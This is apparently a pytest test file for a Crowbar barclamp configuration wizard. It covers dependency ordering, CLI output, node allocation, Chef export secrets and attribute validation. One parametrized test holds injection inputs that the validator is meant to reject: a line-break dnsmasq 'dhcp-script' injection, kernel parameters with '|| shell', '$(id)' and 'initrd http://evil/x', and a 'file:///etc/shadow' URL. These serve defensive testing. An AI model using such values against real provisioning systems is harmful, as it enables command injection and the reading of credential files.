"""The barclamps shipped in ``barclamps/``, and the commands over them."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.unit.base_answers import BASE
from wizard.answers import AnswersError, load
from wizard.catalog import default_catalog
from wizard.cli.main import main

ROOT = Path(__file__).parents[2]
CORE = ["crowbar", "deployer", "provisioner", "ipmi", "network", "dns", "logging", "ntp"]


def test_every_shipped_barclamp_loads() -> None:
    catalog = default_catalog()
    names = list(catalog)
    assert len(names) >= 20
    assert {catalog[n].category for n in names} == {"core", "openstack", "hadoop"}
    for required in ("database", "rabbitmq", "keystone", "glance", "nova", "nova_dashboard",
                     "swift", "cinder", "neutron", "ceph", "zookeeper", "hadoop",
                     "cloudera_manager", *CORE):
        assert required in catalog


def test_nova_alone_pulls_in_what_it_needs_in_a_valid_order() -> None:
    catalog = default_catalog()
    order = catalog.apply_order(catalog.closure(["nova"]))
    assert set(order) >= {"keystone", "glance", "database", "rabbitmq", *CORE}
    assert order[: len(CORE)] == CORE  # core first, by run order then name
    for position, name in enumerate(order):
        assert set(catalog.requires(name)) <= set(order[:position]), name
    assert order[-1] == "nova"
    assert not {"bios", "raid"} & set(order)  # optional core barclamps stay out


def test_barclamps_table(capsys) -> None:
    assert main(["barclamps"]) == 0
    out = capsys.readouterr().out
    rows = {line.split()[1]: line for line in out.splitlines()
            if line.startswith("│") and line.split()[1] != "│"}
    assert len(rows) == len(list(default_catalog()))
    assert "database, rabbitmq, keystone, glance," in rows["nova"]
    assert "(optional)" in rows["bios"]


def test_barclamps_show(capsys) -> None:
    assert main(["barclamps", "show", "nova"]) == 0
    out = capsys.readouterr().out
    assert "selecting it applies, in order: crowbar," in out
    assert "recipe[openstack-compute::compute]" in out  # rich markup must not eat brackets
    assert "virtualization, 8+ GB" in out
    assert "libvirt_type" in out and "kvm, qemu, lxc" in out
    assert main(["barclamps", "show", "novaa"]) == 2
    assert "unknown barclamp 'novaa'" in capsys.readouterr().err


def test_allocate_in_place_keeps_comments(tmp_path: Path, capsys) -> None:
    path = tmp_path / "a.yaml"
    head, _, nodes = BASE.partition("barclamps:\n")
    nodes = nodes.partition("nodes:\n")[2]
    path.write_text("# my site\n" + head + "barclamps:\n  ntp: {}\n  keystone:\n    attributes:"
                    "\n      admin_password: env:KS\nnodes:\n" + nodes)
    assert main(["validate", str(path)]) == 2  # keystone needs database, roles are empty
    capsys.readouterr()
    assert main(["allocate", str(path)]) == 0
    out = capsys.readouterr().out
    assert "admin <- ntp-server (ntp): runs on the admin node" in out
    assert "ctl-1 <- keystone-server (keystone): meant as controller" in out
    assert "added barclamps crowbar, database, deployer, dns, ipmi, logging, network, " \
           "provisioner" in out
    text = path.read_text()
    assert text.startswith("# my site\n")
    answers = load(path)
    assert answers.barclamps["database"].roles == {"database-server": ["ctl-1"]}


def test_allocate_says_what_only_the_operator_can_give(tmp_path: Path, capsys) -> None:
    source = tmp_path / "a.yaml"
    source.write_text(BASE.replace("  ntp:\n", "  nova: {}\n  ntp:\n"))
    before = source.read_text()
    assert main(["allocate", str(source), "-o", str(tmp_path / "b.yaml")]) == 0
    assert "barclamps.keystone: still to set: keystone attribute admin_password is required" in (
        capsys.readouterr().err
    )  # placed all the same: a secret is not allocation's to choose
    assert source.read_text() == before and "keystone-server" in (tmp_path / "b.yaml").read_text()


def test_allocate_explains_a_role_no_node_can_take(tmp_path: Path, capsys) -> None:
    source = tmp_path / "a.yaml"
    source.write_text(
        BASE.replace("  ntp:\n", "  nova: {}\n  keystone:\n    attributes: "
                     "{admin_password: env:KS}\n  ntp:\n")
        .replace("    addresses:\n", "    hardware: {cpu_cores: 4, memory_gb: 4}\n"
                 "    addresses:\n"))
    assert main(["allocate", str(source)]) == 1
    assert capsys.readouterr().err == (
        "cannot place: nova role nova-compute-kvm needs 1 node, 0 can take it: ctl-1: "
        "conflicts with nova-controller; compute-1: 4 GB memory, needs 8\n"
    )


def test_chef_export_needs_its_secrets(tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.delenv("CROWBAR_KEYSTONE_PASSWORD", raising=False)
    example = ROOT / "answers" / "examples" / "lab-small.yaml"
    assert main(["chef", "export", str(example), str(tmp_path / "repo")]) == 1
    assert capsys.readouterr().err == (
        "cannot export: keystone attribute admin_password: environment variable "
        "CROWBAR_KEYSTONE_PASSWORD is not set\n"
    )
    assert not (tmp_path / "repo").exists()
    monkeypatch.setenv("CROWBAR_KEYSTONE_PASSWORD", "x")
    (tmp_path / "repo").mkdir()
    (tmp_path / "repo" / "keep.txt").write_text("mine")
    assert main(["chef", "export", str(example), str(tmp_path / "repo")]) == 1
    assert ("not empty and not a crowbar-wizard export (keep.txt); move them away, or pass "
            "--force to remove them") in capsys.readouterr().err


@pytest.mark.parametrize(
    ("old", "new", "path", "message"),
    [
        ("cpu_allocation_ratio: 4.0", "cpu_allocation_ratio: .nan",
         "barclamps.nova.attributes.cpu_allocation_ratio",
         "nova attribute cpu_allocation_ratio: must be a finite number"),
        ("cpu_allocation_ratio: 4.0", "cpu_allocation_ratio: -.inf",
         "barclamps.nova.attributes.cpu_allocation_ratio",
         "nova attribute cpu_allocation_ratio: must be a finite number"),
        ("  cinder:\n", "  cinder:\n    attributes: {nfs_shares: [.nan]}\n",
         "barclamps.cinder.attributes.nfs_shares",
         "cinder attribute nfs_shares: holds a number that is not finite (NaN or infinity)"),
    ],
    ids=["nan", "minus-infinity", "nan-in-list"],
)
def test_attributes_that_are_not_finite_numbers(tmp_path: Path, old: str, new: str, path: str,
                                                message: str) -> None:
    """NaN passes every bound (every comparison with it is false) and is no JSON."""
    text = (ROOT / "answers" / "examples" / "openstack.yaml").read_text()
    assert text.count(old) == 1
    file = tmp_path / "a.yaml"
    file.write_text(text.replace(old, new))
    with pytest.raises(AnswersError) as caught:
        load(file)
    assert [(p.path, p.message) for p in caught.value.problems] == [(path, message)]



KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDTnhKF4dXG8xSatgZHn28pPMKhbLeZn60JyXL2ZKZke"


@pytest.mark.parametrize(("barclamp", "attribute", "value", "problem"), [
    ("dns", "forwarders", ["8.8.8.8", "9.9.9.9"], None),
    ("dns", "forwarders", ["8.8.8.8\ndhcp-script=/tmp/x"], "item 1: holds a line break"),
    ("dns", "forwarders", ["8.8.8.8 9.9.9.9"], "item 1: '8.8.8.8 9.9.9.9' is not an IPv4"),
    ("dns", "forwarders", [8], "item 1: expected a string, not int"),
    ("dns", "allow_recursion", ["10.0.0.0/8"], None),
    ("dns", "allow_recursion", ["10.0.0.1/8"], "item 1: 10.0.0.1/8 has host bits set"),
    ("dns", "static_records", ["sw1=192.168.124.250", "pdu.rack1=10.0.0.9"], None),
    ("dns", "static_records", ["sw1"], "item 1: 'sw1' is not a record: write NAME=ADDRESS"),
    ("dns", "static_records", ["sw1 = 10.0.0.1"], "item 1: write it as 'sw1=10.0.0.1'"),
    ("provisioner", "access_keys", [KEY, f"{KEY} ops@laptop"], None),
    ("provisioner", "access_keys", [{"key": KEY}], "item 1: expected a string, not dict"),
    ("provisioner", "access_keys", ["not a key"], "item 1: 'not a key' is not an OpenSSH"),
    ("provisioner", "access_keys", KEY, "expected a list"),
    ("provisioner", "serial_console", "", None),
    ("provisioner", "serial_console", "ttyS1,115200n8", None),
    ("provisioner", "serial_console", "ttyS1 shell", "'ttyS1 shell' is not a kernel console"),
    ("provisioner", "kernel_params", "", None),
    ("provisioner", "kernel_params", "quiet console=tty0 net.ifnames=0 rd.lvm=0", None),
    ("provisioner", "kernel_params", "quiet || shell", "'||' is not a kernel parameter"),
    ("provisioner", "kernel_params", "x=$(id)", "'x=$(id)' is not a kernel parameter"),
    ("provisioner", "kernel_params", 'a="b c"', "'a=\"b' is not a kernel parameter"),
    ("provisioner", "kernel_params", "quiet\ninitrd http://evil/x", "holds a line break"),
    ("ntp", "upstream_servers", ["pool.ntp.org", "10.0.0.1"], None),
    ("logging", "external_servers", ["logs.example.com:6514"], None),
    ("logging", "external_servers", ["logs.example.com:0"], "item 1: 'logs.example.com:0' has"),
    ("cloudera_manager", "repository_url", "", None),
    ("cloudera_manager", "repository_url", "https://archive.example.com/cm7/", None),
    ("cloudera_manager", "repository_url", "file:///etc/shadow",
     "'file:///etc/shadow' is not an http(s) or ftp URL"),
    ("ceph", "fsid", "7d3a9c2e-3b6f-4c55-9e57-1b2d8e0f4a11", None),
    ("ceph", "fsid", "7d3a9c2e", "'7d3a9c2e' is not a UUID"),
    ("zookeeper", "data_dir", "/var/lib/zk data", "'/var/lib/zk data' is not an absolute path"),
    ("nova_dashboard", "site_branding", "Cloud\rX", "holds a carriage return"),
    ("rabbitmq", "user", "a\u2028b", "holds a control character (U+2028)"),
])
def test_attributes_are_typed(barclamp: str, attribute: str, value: object,
                              problem: str | None) -> None:
    """What reaches a rendered file is parsed: addresses, keys, consoles, kernel parameters;
    no string attribute (or list item) holds a control character."""
    found = default_catalog()[barclamp].attributes[attribute].check(value)
    if problem is None:
        assert found is None
    else:
        assert found is not None and found.startswith(problem), found


def test_barclamps_show_names_formats(capsys) -> None:
    assert main(["barclamps", "show", "provisioner"]) == 0
    out = capsys.readouterr().out
    assert "list of ssh_public_key" in out and "string: console" in out
